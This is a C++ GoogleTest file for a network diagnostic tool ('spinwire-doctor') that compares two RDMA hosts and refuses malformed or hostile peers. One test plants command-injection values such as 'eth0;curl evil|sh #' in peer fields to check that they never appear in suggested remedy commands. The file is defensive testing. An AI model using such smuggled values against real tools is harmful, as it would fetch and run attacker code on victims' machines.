// Two doctors, in two processes on softverbs: they compare hosts made of files, and refuse what is
// no doctor.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include "tools/doctor_host.h"
#include "tools/doctor_link.h"
#include "tools/programs.h"
#include "tools/scripted_peer.h"

namespace tools_test {
namespace {

// ---- what two hosts find ----------------------------------------------------------------------

TEST_F(Tools, DoctorsOfEqualHostsReachEachOther) {
  const DoctorHost host;
  Serving server(host);
  const Outcome o = compare(host, server.address());
  EXPECT_EQ(o.code, 0) << o.out << o.err;
  for (const char* check : {"tcp", "version", "mtu", "gid", "clock offset", "connection", "latency",
                            "bandwidth", "out-of-band", "rdma_cm", "datagrams"})
    EXPECT_TRUE(has(o, check, "ok")) << check << o.out;
  EXPECT_EQ(server.stop(), 0);
  EXPECT_EQ(server.err(), "");
}

TEST_F(Tools, DoctorNamesWhatDiffersBetweenHosts) {
  struct Case {
    const char* what;
    void (*plant)(DoctorHost&);
    const char *check, *severity, *text;
    int code;
  };
  const Case cases[] = {
      {"MTU", [](DoctorHost& h) { h.put("sys/class/net/eth0/mtu", "1500"); }, "mtu", "warning",
       "ip link set dev eth0 mtu 9000  # there", 1},
      {"active MTU", [](DoctorHost& h) { h.put(kPort + "active_mtu", "1024"); }, "mtu", "warning",
       "ip link set dev eth0 down; ip link set dev eth0 up  # there", 1},
      {"GID types",
       [](DoctorHost& h) {
         h.put(kPort + "gid_attrs/types/2", "IB").put(kPort + "gid_attrs/types/3", "IB");
       },
       "gid", "error", "no common type of GID", 2},
      {"link layer", [](DoctorHost& h) { h.put(kPort + "link_layer", "InfiniBand"); }, "link layer",
       "error", "Ethernet here, InfiniBand there", 2},
      {"rate", [](DoctorHost& h) { h.put(kPort + "rate", "25 Gb/sec (1X EDR)"); }, "rate", "note",
       "25 Gb/sec", 0},
      {"kernel", [](DoctorHost& h) { h.put("proc/sys/kernel/osrelease", "6.9"); }, "version",
       "note", "6.1.0-31-amd64 here, 6.9 there", 0},
      {"a clock that is ahead", [](DoctorHost& h) { h.put("probe/ahead_ns", "5000000000"); },
       "clock offset", "warning", " ms ahead: times", 1},
      {"a clock that is behind", [](DoctorHost& h) { h.put("probe/ahead_ns", "-60000000"); },
       "clock offset", "warning", " ms behind: times", 1},
      {"a clock that is a little ahead", [](DoctorHost& h) { h.put("probe/ahead_ns", "8000000"); },
       "clock offset", "note", " ms ahead: times", 0},
      {"host of softverbs",
       [](DoctorHost& h) { h.put("proc/sys/kernel/random/boot_id", "another"); }, "engine", "error",
       "one host only", 2},
  };
  const DoctorHost here;
  for (const Case& test : cases) {
    SCOPED_TRACE(test.what);
    DoctorHost there;
    test.plant(there);
    const Serving server(there);
    const Outcome o = compare(here, server.address());
    EXPECT_TRUE(has(o, test.check, test.severity)) << o.out << o.err;
    EXPECT_NE(o.out.find(test.text), std::string::npos) << o.out;
    EXPECT_EQ(o.code, test.code) << o.out;
  }
}

/// A host whose device for the engine is an adapter, as far as its files say.
void put_adapter(DoctorHost& h, const char* link_layer, const char* rate) {
  const std::string device = "sys/class/infiniband/softverbs/";
  h.put(device + "device/numa_node", "0");
  h.put(device + "ports/1/state", "4: ACTIVE").put(device + "ports/1/link_layer", link_layer);
  h.put(device + "ports/1/rate", rate);
}

/// Each link has a limit of its own, so that an adapter as slow as a kernel's network stack does
/// not pass. The times are planted, just below each limit and just above.
TEST_F(Tools, DoctorComparesTheRoundTripWithWhatTheLinkShouldGive) {
  struct Link {
    const char *link_layer, *rate, *rate_there;
    int limit_us;
    const char* limit;
  };
  const Link links[] = {
      {"InfiniBand", "100 Gb/sec (4X EDR)", "100", 8, "InfiniBand from 25 Gbit/s on: 8 us"},
      {"InfiniBand", "20 Gb/sec (4X DDR)", "100", 20, "InfiniBand below 25 Gbit/s: 20 us"},
      {"Ethernet", "25 Gb/sec (1X EDR)", "25", 10, "Ethernet from 25 Gbit/s on: 10 us"},
      {"Ethernet", "10 Gb/sec (1X QDR)", "100", 30, "Ethernet below 25 Gbit/s: 30 us"},
      {"Ethernet", "100 Gb/sec (4X EDR)", "10", 30, "Ethernet below 25 Gbit/s: 30 us"},
      {"", "100 Gb/sec (4X EDR)", "100", 30, "an unknown link layer: 30 us"},
  };
  for (const Link& link : links) {
    SCOPED_TRACE(std::string(link.limit) + ", " + link.rate);
    DoctorHost there;
    there.put(kPort + "rate", link.rate_there);
    const Serving server(there);
    for (const int over_ns : {-100, 100}) {
      DoctorHost here;
      put_adapter(here, link.link_layer, link.rate);
      here.put("probe/round_trip_ns", std::to_string(link.limit_us * 1000 + over_ns));
      const Outcome o = compare(here, server.address());
      EXPECT_TRUE(has(o, "latency", over_ns > 0 ? "warning" : "ok")) << o.out << o.err;
      EXPECT_NE(o.out.find(std::string("limit for ") + link.limit), std::string::npos) << o.out;
    }
  }
}

/// Soft-RoCE has a `parent`; up to Linux 5.10 it also has the hardware of its interface.
TEST_F(Tools, DoctorHasNoLimitForTheLatencyOfASoftwareDevice) {
  const DoctorHost there;
  const Serving server(there);
  DoctorHost embedded;
  DoctorHost software;
  put_adapter(software, "Ethernet", "100 Gb/sec (4X EDR)");
  software.remove("sys/class/infiniband/softverbs/device");
  DoctorHost old_kernel;
  put_adapter(old_kernel, "Ethernet", "100 Gb/sec (4X EDR)");
  old_kernel.put("sys/class/infiniband/softverbs/parent", "eth0");
  for (DoctorHost* here : {&embedded, &software, &old_kernel}) {
    here->put("probe/round_trip_ns", "500000");
    const Outcome o = compare(*here, server.address());
    EXPECT_TRUE(has(o, "latency", "ok")) << o.out << o.err;
    EXPECT_NE(o.out.find("takes 500.0 us"), std::string::npos) << o.out;
    EXPECT_NE(o.out.find("no limit: it is no adapter"), std::string::npos) << o.out;
  }
}

/// The difference that is planted lies within the uncertainty that is printed.
TEST_F(Tools, DoctorMeasuresTheDifferenceBetweenTwoClocks) {
  const DoctorHost here;
  DoctorHost there;
  there.put("probe/ahead_ns", "-3600000000000");
  const Serving server(there);
  const Outcome o = compare(here, server.address());
  const std::size_t at = o.out.find("the other clock is ");
  ASSERT_NE(at, std::string::npos) << o.out << o.err;
  double ahead = 0, uncertainty = 0, round_trip = 0;
  ASSERT_EQ(std::sscanf(o.out.c_str() + at,  // NOLINT
                        "the other clock is %lf ms ahead, +/- %lf ms: the shortest of 16 round "
                        "trips over TCP took %lf ms",
                        &ahead, &uncertainty, &round_trip),
            3)
      << o.out;
  EXPECT_NEAR(ahead, -3600e3, uncertainty + 0.001) << o.out;
  EXPECT_NEAR(uncertainty, round_trip / 2, 0.001) << o.out;
  EXPECT_GT(round_trip, 0) << o.out;
}

TEST_F(Tools, DoctorComparesTheRateWithThatOfThePort) {
  DoctorHost host;
  const std::string device = "sys/class/infiniband/softverbs/", port = device + "ports/1/";
  host.put(device + "device/numa_node", "0");
  host.put(port + "state", "4: ACTIVE").put(port + "rate", "100000000 Gb/sec");
  const Serving server(host);
  const Outcome o = compare(host, server.address());
  EXPECT_TRUE(has(o, "bandwidth", "warning")) << o.out << o.err;
  EXPECT_EQ(o.code, 1);
}

TEST_F(Tools, DoctorSaysThatNobodyServes) {
  const DoctorHost host;
  std::string address;
  {
    Serving server(host);
    address = server.address();
    EXPECT_EQ(server.stop(), 0);
  }
  const Outcome o = compare(host, address);
  EXPECT_TRUE(has(o, "tcp", "error")) << o.out;
  EXPECT_NE(o.out.find("spinwire-doctor --serve"), std::string::npos) << o.out;
  EXPECT_EQ(o.code, 2);
  EXPECT_EQ(run("spinwire-doctor", {"127.0.0.1:port"}).code, 3);
}

// ---- what is no doctor ------------------------------------------------------------------------

/// A frame of another protocol.
std::string foreign_frame() {
  std::string bytes = frame("a=b\n");
  bytes.front() = 'X';
  return bytes;
}

TEST_F(Tools, DoctorRefusesClientsThatAreNoDoctors) {
  const DoctorHost host;
  Serving server(host);
  EXPECT_EQ(answer_of(server.port(), "GET / HTTP/1.1\r\n\r\n"), "");
  EXPECT_EQ(answer_of(server.port(), foreign_frame()), "");
  EXPECT_EQ(answer_of(server.port(), frame("", 1, 1, 0xffffffff)), "") << "an endless text";
  EXPECT_EQ(answer_of(server.port(), frame(std::string((16 << 10) + 1, 'x'))), "") << "a long text";
  EXPECT_EQ(answer_of(server.port(), frame("a=b\n", 1, 7)), "") << "another kind";
  EXPECT_EQ(answer_of(server.port(), frame("a=b\n", 2)).find(std::string("SWDR\1\0", 6)), 0u)
      << "another version learns ours";
  const Outcome o = compare(host, server.address());
  EXPECT_EQ(o.code, 0) << o.out << "the server still serves";
  EXPECT_EQ(server.stop(), 0);
  EXPECT_NE(server.err().find("speaks version 2"), std::string::npos) << server.err();
}

TEST_F(SlowTools, DoctorDoesNotWaitForASilentClient) {
  const DoctorHost host;
  const Serving server(host);
  // The second one sends its facts; its engine does not connect.
  for (const std::string& bytes : {std::string(), frame("a=b\n")}) {
    sockaddr_in address{};
    const int silent = tcp_socket(address, server.port());
    ASSERT_EQ(::connect(silent, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
    ASSERT_EQ(::send(silent, bytes.data(), bytes.size(), MSG_NOSIGNAL),
              static_cast<ssize_t>(bytes.size()));
    const Outcome o = compare(host, server.address());
    EXPECT_EQ(o.code, 0) << o.out;
    ::close(silent);
  }
}

/// Each question comes in time, but all of them take too long.
TEST_F(Tools, DoctorDoesNotWaitForAClientThatAsksSlowly) {
  DoctorHost host;
  host.put("probe/first_limit_ms", "3000");
  Serving server(host);
  sockaddr_in address{};
  const int slow = tcp_socket(address, server.port());
  ASSERT_EQ(::connect(slow, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
  const auto ask = [slow](const std::string& bytes) {
    char some[4096];
    return ::send(slow, bytes.data(), bytes.size(), MSG_NOSIGNAL) > 0 &&
           ::recv(slow, some, sizeof some, 0) > 0;
  };
  EXPECT_TRUE(ask(frame("clock.exchanges=64\n")));
  int answered = 0;
  while (answered < 64 && ask(frame("", 1, 3))) {
    ++answered;
    std::this_thread::sleep_for(std::chrono::milliseconds(60));
  }
  EXPECT_LT(answered, 64) << "64 questions take longer than the limit";
  ::close(slow);
  EXPECT_EQ(server.stop(), 0);
  EXPECT_NE(server.err().find("it does not answer in time"), std::string::npos) << server.err();
}

// The time until the engine connects is a part of the client's time, not one more.
TEST_F(Tools, DoctorGivesAClientWhoseEngineDoesNotConnectNoTimeOfItsOwn) {
  DoctorHost host;
  host.put("probe/first_limit_ms", "3000");
  const Serving server(host);
  const auto begin = Clock::now();
  EXPECT_NE(answer_of(server.port(), frame("a=b\n")), "");
  EXPECT_LT(Clock::now() - begin, std::chrono::seconds(15));
}

// The client may be anyone, and the error names a file of this host.
TEST_F(Tools, DoctorTellsAClientOnlyTheStatusOfAnError) {
  const DoctorHost host;
  Program server({"/usr/bin/env", "SPINWIRE_SECURITY_KEY_FILE=/secret/place",
                  bin() + "/spinwire-doctor", "--serve", "127.0.0.1:0", "--root", host.root()});
  const std::string address = server.wait_for("listening on ");
  ASSERT_NE(address, "") << server.err();
  const std::string answer =
      answer_of(std::stoi(address.substr(address.rfind(':') + 1)), frame("a=b\n"));
  EXPECT_NE(answer.find("engine.error=bad_config\n"), std::string::npos) << answer;
  EXPECT_EQ(answer.find("/secret/place"), std::string::npos) << answer;
  server.signal(SIGTERM);
  EXPECT_EQ(server.wait(), 0);
  EXPECT_NE(server.err().find("/secret/place"), std::string::npos) << server.err();
}

/// What the doctor says of a server that answers with these bytes.
Outcome compare_with(const std::string& bytes) {
  const DoctorHost host;
  const ScriptedPeer peer(bytes);
  return compare(host, peer.address());
}

/// Clients of tests that run beside this one. The first says nothing, and the second does not
/// close.
TEST_F(Tools, ScriptedPeerAnswersTheDoctorBehindOtherClients) {
  const DoctorHost host;
  const ScriptedPeer peer(frame("spinwire=9.9.9\n"));
  std::vector<int> others;
  for (const std::string& bytes : {std::string(), std::string("GET / HTTP/1.1\r\n\r\n")}) {
    sockaddr_in address{};
    others.push_back(tcp_socket(address, peer.port()));
    ASSERT_EQ(::connect(others.back(), reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
    ASSERT_EQ(::send(others.back(), bytes.data(), bytes.size(), MSG_NOSIGNAL),
              static_cast<ssize_t>(bytes.size()));
  }
  const Outcome o = compare(host, peer.address());
  EXPECT_NE(o.out.find("9.9.9 there"), std::string::npos) << o.out << o.err;
  for (const int fd : others) ::close(fd);
}

TEST_F(Tools, DoctorRefusesServersThatAreNoDoctors) {
  for (const std::string& bytes : {std::string("SSH-2.0-OpenSSH_9.2\r\n"), std::string(),
                                   foreign_frame(), frame("", 1, 1, 0xffffffff),
                                   frame(std::string((16 << 10) + 1, 'x')), frame("a=b\n", 1, 2)}) {
    const Outcome o = compare_with(bytes);
    EXPECT_TRUE(has(o, "tcp", "error")) << o.out << o.err;
    EXPECT_EQ(o.code, 2);
  }
  const Outcome newer = compare_with(frame("spinwire=9.9.9\n", 2));
  EXPECT_NE(newer.out.find("version 2 of the protocol, ours is 1"), std::string::npos) << newer.out;
}

/// The kernel takes the connection, and nobody reads from it: the peer hangs, or serves another
/// one.
TEST_F(Tools, DoctorDoesNotWaitForASilentServer) {
  DoctorHost host;
  host.put("probe/first_limit_ms", "200");
  const SilentPeer peer;
  const Outcome o = compare(host, peer.address());
  EXPECT_TRUE(has(o, "tcp", "error")) << o.out << o.err;
  EXPECT_NE(o.out.find("has not answered in 0.2 s"), std::string::npos) << o.out;
  EXPECT_NE(o.out.find("it serves another doctor and does not say so"), std::string::npos) << o.out;
  EXPECT_EQ(o.code, 2);
}

/// Each answer comes in time, but all of them take too long.
TEST_F(Tools, DoctorDoesNotWaitForAServerThatAnswersSlowly) {
  DoctorHost host;
  host.put("probe/clock_limit_ms", "3000");
  const ScriptedPeer peer(frame("clock.exchanges=16\n"), frame("received=1\nsent=1\n", 1, 3),
                          std::chrono::milliseconds(250));
  const Outcome o = compare(host, peer.address());
  EXPECT_LT(peer.answered_later(), 16) << "16 answers take longer than the limit";
  EXPECT_TRUE(has(o, "clock offset", "note")) << o.out << o.err;
  EXPECT_NE(o.out.find("it does not answer in time"), std::string::npos) << o.out;
}

/// A doctor that tells no time, none that makes sense, or does not go on.
TEST_F(Tools, DoctorBelievesNoTimeThatIsNone) {
  const std::string facts = "clock.exchanges=16\n";
  for (const std::string& times :
       {std::string("received=1\nsent=x\n"), std::string("received=-5\nsent=-4\n"),
        std::string("received=9223372036854775807\nsent=9223372036854775807\n"),
        std::string("received=2\nsent=1\n"), std::string("received=0\nsent=99999999999999\n")}) {
    std::string bytes = frame(facts);
    for (int i = 0; i < 16; ++i) bytes += frame(times, 1, 3);
    const Outcome o = compare_with(bytes);
    EXPECT_TRUE(has(o, "clock offset", "note")) << o.out;
    EXPECT_NE(o.out.find("its times are not valid"), std::string::npos) << times << o.out;
  }
  EXPECT_TRUE(has(compare_with(frame("a=b\n")), "clock offset", "note")) << "an older doctor";
}

/// Its engine is closed by then.
TEST_F(Tools, DoctorMeasuresNothingAfterTheLinkHasFailed) {
  const std::string facts = "clock.exchanges=16\nengine.port=9\nengine.device=softverbs\n";
  for (const std::string& bytes : {frame(facts), frame(facts) + frame("", 1, 2)}) {
    const Outcome o = compare_with(bytes);
    EXPECT_TRUE(has(o, "clock offset", "note")) << o.out;
    EXPECT_TRUE(has(o, "tcp", "error")) << o.out;
    EXPECT_NE(o.out.find("nothing is measured"), std::string::npos) << o.out;
    for (const char* check : {"engine", "connection"})
      EXPECT_EQ(o.out.find(std::string("{\"check\":\"") + check), std::string::npos) << o.out;
    EXPECT_EQ(o.code, 2) << o.out;
  }
}

TEST_F(Tools, DoctorPrintsNoTextOfAPeerInACommand) {
  struct Case {
    const char *mtu, *interface, *remedy;
  };
  constexpr const char* kNone = "# no command: a host does not say the MTU of its interface";
  for (const Case& test :
       {Case{"1500", "eth7", "ip link set dev eth7 mtu 9000  # there"},
        Case{"1500", "eth0;curl evil|sh #", "ip link set dev INTERFACE mtu 9000  # there"},
        Case{"1500", "-force", "ip link set dev INTERFACE mtu 9000  # there"},
        Case{"1500", "a-name-that-is-too-long", "ip link set dev INTERFACE mtu 9000  # there"},
        Case{"9600;curl evil|sh #", "eth7", kNone}, Case{"99999", "eth7", kNone},
        Case{"-1", "eth7", kNone},
        Case{"9600", "eth7;curl evil|sh #", "ip link set dev eth0 mtu 9600  # here"}}) {
    const Outcome o = compare_with(frame(std::string("port.netdev_mtu=") + test.mtu +
                                         "\nport.netdev=" + test.interface +
                                         "\nengine.port=1;curl evil|sh\ncm.port=x\n"));
    const std::size_t mtu = o.out.find(finding("mtu", "warning"));
    ASSERT_NE(mtu, std::string::npos) << o.out;
    EXPECT_NE(o.out.find(std::string("\"remedy\":\"") + test.remedy + '"', mtu), std::string::npos)
        << test.remedy << o.out;
    EXPECT_TRUE(has(o, "engine", "error")) << "no port" << o.out;
    for (std::size_t at = 0; (at = o.out.find("\"remedy\":\"", at)) != std::string::npos; ++at) {
      const std::string remedy = o.out.substr(at, o.out.find('}', at) - at);
      EXPECT_EQ(remedy.find("evil"), std::string::npos) << remedy;
    }
  }
}

TEST_F(Tools, DoctorReportsVersionsAndEnginesThatDoNotOpen) {
  const Outcome o = compare_with(frame("spinwire=9.9.9\nengine.error=no \x1b[31mdevice\n"));
  EXPECT_TRUE(has(o, "version", "warning")) << o.out;
  EXPECT_NE(o.out.find("9.9.9 there"), std::string::npos) << o.out;
  EXPECT_TRUE(has(o, "engine", "error")) << o.out;
  EXPECT_NE(o.out.find("no ?[31mdevice"), std::string::npos) << "no control characters" << o.out;
  EXPECT_EQ(o.code, 2);
}

}  // namespace
}  // namespace tools_test
